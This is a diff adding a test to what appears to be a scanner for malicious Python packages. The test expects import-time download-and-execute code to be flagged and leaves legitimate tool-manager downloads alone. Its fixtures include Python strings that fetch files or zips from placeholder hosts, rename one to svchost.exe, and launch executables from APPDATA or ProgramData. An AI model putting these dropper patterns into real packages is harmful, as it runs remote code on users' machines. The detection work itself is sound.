@@ -384,6 +384,58 @@ test('urlretrieve, honest twins: a data file read, a module imported before the 
   );
 });
 
+test("a downloaded file moved, or a program out of a downloaded archive, then started: BLOCKED at import or install; a tool manager's on request is not", async () => {
+  await blocked(
+    py(
+      'ur-move',
+      'ur_move/__init__.py',
+      "import os, shutil, urllib.request\nurllib.request.urlretrieve('https://x.example/a.bin', '/tmp/a.bin')\nshutil.move('/tmp/a.bin', '/tmp/svchost.exe')\nos.startfile('/tmp/svchost.exe')\n",
+    ),
+    'download_execute',
+  );
+  await blocked(
+    py(
+      'ur-zip',
+      'ur_zip/__init__.py',
+      "import os, zipfile, subprocess, tempfile, urllib.request\nd = tempfile.mkdtemp()\nz = os.path.join(d, 'u.zip')\nurllib.request.urlretrieve('https://x.example/u.zip', z)\nzipfile.ZipFile(z).extractall(d)\nsubprocess.Popen([os.path.join(d, 'Updater.exe')])\n",
+    ),
+    'archive_download_execute',
+  );
+  // Fetched bytes extracted in memory, a literal folder and a literal path below it.
+  await blocked(
+    py(
+      'req-zip',
+      'req_zip/__init__.py',
+      "import io, zipfile, subprocess, requests\nr = requests.get('https://x.example/u.zip')\nzipfile.ZipFile(io.BytesIO(r.content)).extractall('C:/ProgramData/upd')\nsubprocess.Popen(['C:/ProgramData/upd/upd.exe'])\n",
+    ),
+    'archive_download_execute',
+  );
+  // `with ZipFile(…) as zf: zf.extractall(d)`, the run a concatenation under d.
+  await blocked(
+    py(
+      'ur-zip-with',
+      'ur_zip_with/__init__.py',
+      "import os, zipfile, subprocess, urllib.request\nd = os.path.join(os.environ.get('APPDATA', '/tmp'), 'svc')\nurllib.request.urlretrieve('https://x.example/p.zip', 'p.zip')\nwith zipfile.ZipFile('p.zip') as zf:\n    zf.extractall(d)\nsubprocess.Popen(d + '/svc.exe', shell=True)\n",
+    ),
+    'archive_download_execute',
+  );
+  // Honest: a data archive extracted and read; a tool manager fetching its binary as a zip and asking its version, in a function the user calls.
+  await honest(
+    py(
+      'tw-zip-data',
+      'tw_zip_data/__init__.py',
+      "import os, zipfile, urllib.request, json\nd = os.path.expanduser('~/.cache/twz')\nz = os.path.join(d, 'data.zip')\nurllib.request.urlretrieve('https://data.example/data.zip', z)\nzipfile.ZipFile(z).extractall(d)\nDATA = json.load(open(os.path.join(d, 'data.json')))\n",
+    ),
+  );
+  await honest(
+    py(
+      'tw-tunnel-mgr',
+      'tw_tunnel_mgr/installer.py',
+      "import os, zipfile, subprocess, urllib.request\n\n\ndef install(bin_dir):\n    z = os.path.join(bin_dir, 'tunnel.zip')\n    urllib.request.urlretrieve('https://bin.tunnel.example/tunnel-stable-linux-amd64.zip', z)\n    with zipfile.ZipFile(z) as zf:\n        zf.extractall(bin_dir)\n    return subprocess.check_output([os.path.join(bin_dir, 'tunnel'), 'version'])\n",
+    ),
+  );
+});
+
 // ---- conftest.py deeper than src/ ------------------------------------------------------------------------
 
 test("roles: every conftest.py a plain pytest run loads is import-time, except a test suite's own and pruned folders", () => {
